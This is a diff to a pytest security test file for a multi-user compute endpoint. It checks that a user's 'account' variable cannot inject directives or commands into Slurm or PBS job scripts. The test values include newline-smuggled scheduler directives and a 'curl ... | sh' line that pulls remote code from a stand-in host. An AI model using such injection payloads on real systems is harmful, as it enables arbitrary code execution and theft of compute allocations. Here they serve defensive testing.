@@ -1,6 +1,7 @@
 """The router's bounds on what users write, without accounts (the attacks with real accounts are
-tests/security/test_mep_attacks.py): the nesting and size of a user's variables, one message
-that raises anything, a user endpoint's status file, and the folders above the store."""
+tests/security/test_mep_attacks.py): the nesting and size of a user's variables, what they may
+put into a job script, one message that raises anything, a user endpoint's status file, and the
+folders above the store."""
 from __future__ import annotations
 
 import json
@@ -10,10 +11,13 @@ from types import SimpleNamespace
 
 import pytest
 
-from faas.endpoint.multiuser import spool, templates
+from faas.endpoint import config as ep_config
+from faas.endpoint.multiuser import files, spool, templates
 from faas.endpoint.multiuser.router import Router
 from faas.endpoint.multiuser.user_endpoints import UserEndpoint
 from faas.exceptions import ConfigError
+from faas.providers import make_provider
+from faas.providers.pbs import PBSProvider
 
 
 def nested(depth: int) -> dict:
@@ -26,6 +30,65 @@ def test_variables_nested_too_deep_or_too_big_are_refused_naming_the_limit():
     with pytest.raises(templates.VariablesRefused, match="over the endpoint's limit of 65536 bytes"):
         templates.check_variables({"x": "a" * 70_000}, None)
     assert templates.check_variables(nested(14), None) == nested(14)
+
+
+#: an admin's template that hands the user's account to the scheduler, under a schema that types
+#: it as a plain string (no pattern, no enum): the schema lets anything through
+ACCOUNT_TEMPLATE = "engine:\n  provider:\n    type: {provider}\n    account: {{{{ account }}}}\n"
+PLAIN_STRING_SCHEMA = {"type": "object", "properties": {"account": {"type": "string", "maxLength": 200}},
+                       "additionalProperties": False}
+
+
+def job_script_for(variables: object, provider: str, tmp_path: Path) -> str:
+    """What root submits for one task's user_endpoint_config: the router's check against the
+    schema and its render (Router._render) of the user endpoint's config, as that endpoint's
+    loader reads it, then the job script of its first block."""
+    router = SimpleNamespace(name="campus", template=ACCOUNT_TEMPLATE.format(provider=provider), dir=tmp_path,
+                             cfg=SimpleNamespace(store="file:///shared/faas", max_blocks_per_user=1,
+                                                 allowed_functions=None))
+    ue = UserEndpoint(key="mallory/1", name="ep", user="nobody", uid=65534, gid=65534, home="/nonexistent",
+                      variables=templates.check_variables(variables, PLAIN_STRING_SCHEMA), vhash="1",
+                      identity="local:nobody")
+    cfg = ep_config.UserEndpointConfig.model_validate(Router._render(router, ue))
+    p = make_provider(cfg.engine.provider, tmp_path / "ep")
+    extra = p.template_vars("b1") if isinstance(p, PBSProvider) else {"mem": None, "workdir": str(tmp_path)}
+    return p.script("python -m faas.endpoint.pool", "b1", **extra).read_text()
+
+
+@pytest.mark.parametrize("provider, directive", [("slurm", "#SBATCH --account="), ("pbs", "#PBS -A ")])
+@pytest.mark.parametrize("account", [
+    "proj1\n#SBATCH --account=big-allocation\n#SBATCH --qos=admin\ncurl -s http://x.example | sh #",
+    "proj1\r\n#PBS -A big-allocation\n#PBS -q admin",
+    "proj1 --qos=admin -q admin -A big-allocation",
+])
+def test_a_users_variable_never_adds_a_line_or_an_option_to_the_job_script(tmp_path, provider, directive,
+                                                                          account):
+    """Mallory sends user_endpoint_config {"account": ...} to a multi-user endpoint whose schema
+    types account as a plain string. The value used to reach the job script as it was: its lines
+    became directives of hers (another account, a QOS) and shell commands run in her job, and
+    its words more options of the account's directive. Now the rendered config is refused,
+    naming the key and what it holds, and the task with it; an honest account renders as one
+    directive."""
+    with pytest.raises(templates.VariablesRefused) as refused:
+        script = job_script_for({"account": account}, provider, tmp_path)
+        # only the old code got here: the script root would have submitted as the user
+        assert [line for line in script.splitlines() if "account" in line or " -A " in line] == [
+            f"{directive}proj1"], script
+    assert "engine.provider.account: expected one word with no spaces, quotes, backslashes or control " \
+           "characters" in str(refused.value)
+    assert "found a " in str(refused.value) and "at character 6" in str(refused.value)
+    script = job_script_for({"account": "proj1"}, provider, tmp_path)
+    assert [line for line in script.splitlines() if "proj1" in line] == [f"{directive}proj1"]
+
+
+def test_the_default_schema_refuses_a_line_break_after_a_value():
+    """Python's re.search, which jsonschema checks ``pattern`` with, matches ``$`` before a final
+    line break: the default schema's patterns end in ``\\Z``, the end of the value itself."""
+    schema = json.loads(files._default(files.SCHEMA))
+    assert templates.check_variables({"account": "proj1", "partition": "cpu", "walltime": "1-02:00:00"}, schema)
+    for key, value in (("account", "proj1"), ("partition", "cpu"), ("walltime", "01:00:00")):
+        with pytest.raises(templates.VariablesRefused, match=f"user_endpoint_config: {key}: .* does not match"):
+            templates.check_variables({key: value + "\n"}, schema)
 
 
 def test_a_render_that_recurses_too_deep_is_a_config_error():
